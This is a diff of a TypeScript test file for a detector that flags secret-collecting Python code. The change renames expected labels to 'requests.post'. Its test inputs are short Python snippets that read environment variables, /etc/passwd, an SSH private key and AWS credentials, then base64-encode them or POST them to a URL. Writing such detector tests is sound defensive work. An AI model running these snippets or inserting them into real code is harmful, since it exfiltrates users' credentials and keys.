@@ -6,11 +6,11 @@ const scored = (source: string) => scoredBy('secret-collection', source);
 describe('secret-collection', () => {
   it.each([
     ['import os, base64\nbase64.b64encode(str(os.environ).encode())', 'os.environ + base64.b64encode'],
-    ['import os, requests\nrequests.post(u, data=dict(os.environ))', 'os.environ + requests'],
+    ['import os, requests\nrequests.post(u, data=dict(os.environ))', 'os.environ + requests.post'],
     ['import base64\nbase64.b64encode(open("/etc/passwd", "rb").read())', 'builtins.open + base64.b64encode'],
     [
       'import os, requests\nrequests.post(u, open(os.path.expanduser("~/.ssh/id_rsa")))',
-      'os.path.expanduser + requests',
+      'os.path.expanduser + requests.post',
     ],
     [
       'from pathlib import Path\nkey = Path("/root/.aws/credentials")\nopen("/output/x", "w")',
